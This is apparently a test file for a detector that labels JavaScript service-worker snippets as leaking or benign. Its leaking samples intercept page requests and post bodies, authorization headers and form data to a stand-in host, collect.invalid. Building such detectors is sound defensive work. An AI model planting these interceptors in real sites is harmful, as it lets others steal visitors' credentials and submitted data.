import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

/** What a page asks for goes where it is meant to, and to a host in the code as well. */
const OVERHEARD: readonly string[] = [
  `self.addEventListener('fetch', (e) => { e.waitUntil(e.request.clone().text().then((body) => fetch('https://collect.invalid/l', { method: 'POST', body }))); });`,
  `self.addEventListener('fetch', (e) => { fetch('https://collect.invalid', { method: 'POST', body: e.request.headers.get('authorization') }); });`,
  `addEventListener('fetch', ({ request: r, waitUntil, respondWith }) => { if (r.method === 'POST') waitUntil(r.clone().json().then((b) => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ u: r.url, b }) }))); respondWith(fetch(r)); });`,
  `self.onfetch = (e) => e.respondWith((async () => { const answer = await fetch(e.request.clone()); navigator.sendBeacon('//collect.invalid', await e.request.formData()); return answer; })());`,
  `const look = async (r) => { const [...all] = r.headers.entries(); await fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); }; self.addEventListener('fetch', (e) => { look(e.request); e.respondWith(caches.match(e.request).then((hit) => hit || fetch(e.request))); });`,
  `self.addEventListener('fetch', (e) => { fetch('https://collect.invalid', { method: 'POST', body: e.request.clone().body, duplex: 'half' }); });`,
];

/** Caches, queues, statistics, and workers that stand before a server. */
const HONEST: readonly string[] = [
  `self.addEventListener('fetch', (e) => e.respondWith(caches.match(e.request).then((hit) => hit || fetch(e.request).then((r) => caches.open('v1').then((c) => (c.put(e.request, r.clone()), r))))));`,
  `const queue = []; self.addEventListener('fetch', (e) => { e.respondWith(fetch(e.request.clone()).catch(() => { queue.push(e.request.clone()); return new Response('', { status: 202 }); })); }); self.addEventListener('sync', (e) => e.waitUntil(Promise.all(queue.map((r) => fetch(r)))));`,
  `self.addEventListener('fetch', (e) => { fetch('https://stats.example/', { method: 'POST', body: JSON.stringify({ u: e.request.url, a: e.request.headers.get('accept') }) }); });`,
  `addEventListener('fetch', (e) => e.respondWith(fetch(new Request('https://upstream.example' + new URL(e.request.url).pathname, e.request))));`,
  `async function handle(r) { const body = await r.json(); return fetch('https://api.example/v1', { method: 'POST', headers: { authorization: r.headers.get('authorization') }, body: JSON.stringify(body) }); } addEventListener('fetch', (e) => e.respondWith(handle(e.request)));`,
  `self.addEventListener('fetch', async (e) => { const form = await e.request.formData(); await caches.open('shared').then((c) => c.put('/file', new Response(form.get('file')))); });`,
];

describe('service workers', () => {
  for (const code of OVERHEARD)
    it(`listen in: ${code}`, () =>
      assert.deepEqual([...new Set(flowsOf(code))], ['others-request>network@collect.invalid']));
  for (const code of HONEST) it(`answer and pass on: ${code}`, () => assert.deepEqual(flowsOf(code), []));
});
